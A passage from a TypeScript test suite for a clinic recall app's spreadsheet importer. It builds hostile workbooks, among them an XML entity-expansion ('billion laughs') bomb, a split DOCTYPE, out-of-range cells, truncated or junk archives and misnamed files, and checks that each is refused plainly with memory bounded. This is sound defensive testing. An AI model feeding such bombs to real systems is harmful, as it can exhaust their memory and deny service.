      name: 'a bare <!DOCTYPE> with no entities in it, on a real export',
      file: () => {
        const spec = exportSheet()
        return fileOf(
          'doctype.xlsx',
          buildWorkbook({ sheets: [{ name: 'Export', xml: withDocumentType(spec.sheets[0]!.xml, 'worksheet', '<!DOCTYPE worksheet>') }] })
        )
      },
      says: documentType
    },
    {
      name: 'a <!DOCTYPE> split across two of the pieces a stored part is read in',
      file: () => {
        // Stored (not deflated) parts are handed on a mebibyte at a time: "<!DO" ends the first piece.
        const head = '<?xml version="1.0"?>'
        const filler = '<!-- padding -->'
        const padding = filler.repeat(Math.floor((MiB - 4 - head.length) / filler.length))
        const spaces = ' '.repeat(MiB - 4 - head.length - padding.length)
        const xml = `${head}${padding}${spaces}<!DOCTYPE worksheet><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>`
        return fileOf('split-doctype.xlsx', rawWorkbook({ sheets: [{ name: 'Export', xml }] }))
      },
      says: documentType
    },
    // Cells far beyond any export.
    {
      name: 'stray far-right cells on every row (3,000 rows, each reaching column XFD)',
      file: () =>
        fileOf(
          'far-right.xlsx',
          buildWorkbook({
            sheets: [{ name: 'Export', xml: sheetXml(Array.from({ length: 3_000 }, (_, i) => textRow(i + 1, [`r${i}`, 'far'], ['A', 'XFD'])).join('')) }]
          })
        ),
      says: /has cells so far to the right on so many rows that reading it would mean holding more than 40,000,000 cells.*delete whatever is to the right of the report/
    },
    {
      name: 'a row below the last row Excel allows (row 1,048,577)',
      file: () => fileOf('below-last-row.xlsx', buildWorkbook(exportSheet((row) => (row === 1 ? `</row><row r="1048577">${cellAt('A1048577')}` : '')))),
      says: /has a row beyond row 1,048,576, the last row Excel allows/
    },
    {
      name: 'a cell right of the last column Excel allows (XFE1)',
      file: () => fileOf('beyond-xfd.xlsx', buildWorkbook(exportSheet((row) => (row === 1 ? cellAt('XFE1') : '')))),
      says: /has a cell beyond column 16,384, the last column Excel allows/
    },
    {
      name: 'more cells than the cell limit (limits scaled down)',
      file: () => fileOf('too-many-cells.xlsx', buildWorkbook(exportSheet())),
      says: /has more than 100 cells on one sheet, far more than any practice export/,
      limits: { maxCells: 100 }
    },
    {
      name: 'more rows than the row limit (limits scaled down)',
      file: () => fileOf('too-many-rows.xlsx', buildWorkbook(exportSheet())),
      says: /has a row beyond row 10, the last row Excel allows/,
      limits: { maxRows: 10 }
    },
    {
      name: 'more shared strings than the limit (limits scaled down)',
      file: () =>
        fileOf(
          'too-many-strings.xlsx',
          buildWorkbook({ sheets: [{ name: 'Export', xml: sharedStringSheet(2) }], sharedStrings: Array.from({ length: 1_001 }, (_, i) => `text ${i}`) })
        ),
      says: /has more than 1,000 different texts in it/,
      limits: { maxSharedStrings: 1_000 }
    },
    // Damage.
    {
      name: 'a workbook cut short (half its bytes)',
      file: () => {
        const whole = buildWorkbook(exportSheet())
        return fileOf('cut-in-half.xlsx', whole.subarray(0, Math.floor(whole.length / 2)))
      },
      says: damaged
    },
    {
      name: 'a workbook missing only its last 10 bytes',
      file: () => {
        const whole = buildWorkbook(exportSheet())
        return fileOf('cut-at-the-end.xlsx', whole.subarray(0, whole.length - 10))
      },
      says: damaged
    },
    {
      name: 'a workbook whose sheet part is missing',
      file: () => fileOf('no-sheet-part.xlsx', buildWorkbook({ ...exportSheet(), omit: ['xl/worksheets/sheet1.xml'] })),
      says: damaged
    },
    {
      name: 'malformed XML in the sheet (a tag never closed)',
      file: () =>
        fileOf(
          'tag-left-open.xlsx',
          buildWorkbook({
            sheets: [{ name: 'Export', xml: sheetXml(`${textRow(1, ['NHS Number'])}<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c></row`) }]
          })
        ),
      says: damaged
    },
    {
      name: 'an entity the XML never declares (&nbsp;) in a cell',
      file: () =>
        fileOf(
          'undeclared-entity.xlsx',
          buildWorkbook({ sheets: [{ name: 'Export', xml: sheetXml(textRow(1, ['NHS Number']).replace('NHS Number', 'NHS&nbsp;Number')) }] })
        ),
      says: damaged
    },
    {
      name: 'a sheet whose compressed bytes are junk',
      file: () => fileOf('scrambled.xlsx', rawWorkbook(exportSheet(), [{ name: 'xl/worksheets/sheet1.xml', data: junk(4096, 11), deflated: true }])),
      says: damaged
    },
    {
      name: 'a workbook with no data on any sheet',
      file: () =>
        fileOf(
          'no-data.xlsx',
          buildWorkbook({
            sheets: [
              { name: 'Sheet1', xml: sheetXml('') },
              { name: 'Sheet2', xml: sheetXml(`<row r="1">${cellAt('A1', '   ')}</row>`) }
            ]
          })
        ),
      says: /is an Excel workbook with no data on any of its 2 sheet\(s\): check the search returned patients/
    },
    // Files that are not what their names say.
    {
      name: 'an old-style or password-protected Excel file (OLE, D0 CF 11 E0) named .xlsx',
      file: () => fileOf('protected.xlsx', bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], junk(4096))),
      says: /is an old-style Excel 97–2003 workbook \(\.xls\) or a password-protected workbook: open it in Excel, remove any password and "Save As" Excel workbook \(\.xlsx\) or CSV/
    },
    {
      name: 'a zip that is not a workbook, named .csv',
      file: () => fileOf('really-a-zip.csv', zipSync({ 'notes.txt': strToU8('NHS Number,Family Name\r\n') })),
      says: /is a ZIP archive, not a CSV or Excel export: unzip it and choose the CSV or \.xlsx file inside/
    },
    {
      name: 'an entity bomb workbook named .csv (what the file holds decides, not its name)',
      file: () =>
        fileOf(
          'laughs.csv',
          buildWorkbook({
            sheets: [{ name: 'Export', xml: sharedStringSheet(1) }],
            parts: { 'xl/sharedStrings.xml': withDocumentType(sharedStringsXml('<si><t>&lol9;</t></si>'), 'sst', billionLaughs) }
          })
        ),
      says: documentType
    }
  ]

  // A parser's, inflater's or engine's own words, which mean nothing to a receptionist.
  const jargon =
    /undefined entity|unclosed|Invalid string length|RangeError|TypeError|SyntaxError|Error:|\b\d+:\d+\b|unexpected EOF|invalid (block|distance|length|zip)|ERR_|saxes|fflate|\bat \S+ \(|\.[jt]s:\d+|\bundefined\b|\bNaN\b|\[object /i
  // What the practice can do about it (every refusal also ends with how to export the report again).
  const whatToDo = /open it in Excel|export the report|export it again|Save As|unzip it|delete whatever|Nothing was imported/
  const measured: string[] = []
  afterAll(() => {
    if (measured.length > 0) console.log(`Hostile workbooks (time, growth of heapUsed + arrayBuffers):\n  ${measured.join('\n  ')}`)
  })

  const heldBytes = () => {
    const { heapUsed, arrayBuffers } = process.memoryUsage()
    return heapUsed + arrayBuffers
  }

  function plainRefusalOf(error: unknown, fileName: string): string {
    expect(error, `${fileName} should have been refused`).toBeInstanceOf(AppError)
    const { code, message } = error as AppError
    expect(code).toBe('bad_file')
    expect(message.startsWith(`"${fileName}" `), message).toBe(true)
    // The file's own name may say anything; the words after it are the app's.
    expect(message.slice(fileName.length + 2)).not.toMatch(jargon)
    expect(message).toMatch(whatToDo)
    expect(message.length).toBeLessThan(2_000)
    return message
  }

  test.each(hostile.map((h) => [h.name, h] as const))(
    '%s: refused in plain English naming the file; the database file byte-identical; memory bounded',
    async (_name, h) => {
      const input = h.file()
      const limits = { ...defaultWorkbookLimits, ...h.limits }
      const before = databaseFileHash()
      const importsBefore = listImports(ctx).length
      const backupsBefore = listBackups(ctx.databasePath).map((b) => b.name)
      const heldBefore = heldBytes()
      let mostHeld = heldBefore
      const started = performance.now()
      // The preview and the import each read the file afresh, as the app's two steps and the CLI do.
      const messages: string[] = []
      for (const step of ['preview', 'import'] as const) {
        let error: unknown
        try {
          const files = await readWorkbooks([input], undefined, limits)
          if (step === 'preview') previewImport(ctx, files, 'auto')
          else importFiles(ctx, files, 'auto')
        } catch (e) {
          error = e
        }
        mostHeld = Math.max(mostHeld, heldBytes())
        messages.push(plainRefusalOf(error, input.name))
      }
      const seconds = (performance.now() - started) / 1000
      const grewMb = (mostHeld - heldBefore) / MiB
      measured.push(`${input.name}: ${seconds.toFixed(2)} s for preview + import, grew ${Math.max(0, grewMb).toFixed(0)} MB`)

      expect(messages[0]).toMatch(h.says)
      expect(messages[1]).toBe(messages[0])
      // 600 MB bombs never become 600 MB here (let alone the gigabytes of a billion laughs), and stray
      // far-right cells are refused before the blanks that would pad their rows out are held.
      expect(grewMb).toBeLessThan(300)
      expect(databaseFileHash()).toBe(before)
      expect(listImports(ctx)).toHaveLength(importsBefore)
      expect(listBackups(ctx.databasePath).map((b) => b.name)).toEqual(backupsBefore)
    },
    60_000
  )

  test('one stray cell at XFD1 on a real export is read, not refused: the workbook stores exactly what its CSV twin does', async () => {
    const workbook = fileOf('export.xlsx', buildWorkbook(exportSheet((row) => (row === 1 ? cellAt('XFD1') : ''))))
    const fromWorkbook = importFiles(ctx, await readWorkbooks([workbook]), 'auto')

    const twin = createTestContext()
    try {
      importFiles(twin, [existingExport()], 'auto')
      const fromCsv = importFiles(twin, [fileOf('export.csv', twinCsv)], 'auto')
      const outcome = (r: ReturnType<typeof importFiles>) => ({
        alreadyImported: r.alreadyImported,
        rowsRead: r.rowsRead,
        patientsAdded: r.patientsAdded,
        patientsUpdated: r.patientsUpdated,
        readingsAdded: r.readingsAdded,
        eventsAdded: r.eventsAdded,
        rejected: r.rejected,
        conflicts: r.conflicts
      })
      expect(fromCsv.patientsUpdated + fromCsv.patientsAdded).toBeGreaterThan(0)
      expect(outcome(fromWorkbook)).toEqual(outcome(fromCsv))
      const stored = (c: TestContext) => ({
        patients: c.db.prepare('SELECT * FROM patients ORDER BY nhs_number').all(),
        readings: c.db.prepare('SELECT * FROM bp_readings ORDER BY id').all(),
        events: c.db.prepare('SELECT * FROM coded_events ORDER BY id').all()
      })
      expect(stored(ctx)).toEqual(stored(twin))
      assertEverythingStoredIsValid()
    } finally {
      twin.cleanup()
    }
  })

  describe('through the command line (clinic-recall --db … import)', () => {
    // A bomb, an entity bomb, damage and a file that only looks like a workbook; picked by title, so
    // no file is built until its test runs.
    const throughCli = hostile.filter((h) => /directory lies|billion laughs"\) in the shared strings|cut short \(half|OLE/.test(h.name))

    test('four of the corpus run through the command line', () => expect(throughCli).toHaveLength(4))

    test.each(throughCli.map((h) => [h.name, h] as const))(
      '%s: exit code 1, one plain line on stderr naming the file, nothing on stdout, the database file byte-identical',
      async (_name, h) => {
        const input = h.file()
        const path = join(ctx.folder, input.name)
        writeFileSync(path, input.bytes)
        const before = databaseFileHash()
        const { code, stdout, stderr } = await runCliCaptured(['--db', ctx.databasePath, 'import', path, '--json'], {
          CLINIC_RECALL_USER: 'Hostile workbook test'
        })
        expect(code).toBe(1)
        expect(stdout).toBe('')
        const lines = stderr
          .trim()
          .split('\n')
          .filter((line) => !line.startsWith('Warning:'))
        expect(lines).toHaveLength(1)
        expect(lines[0]).toContain(`"${input.name}"`)
        expect(lines[0]).toMatch(h.says)
        expect(lines[0]).not.toMatch(jargon)
        expect(lines[0]).toMatch(whatToDo)
        expect(databaseFileHash()).toBe(before)
        expect(listImports(ctx)).toHaveLength(1)
      },
      60_000
    )
  })
})
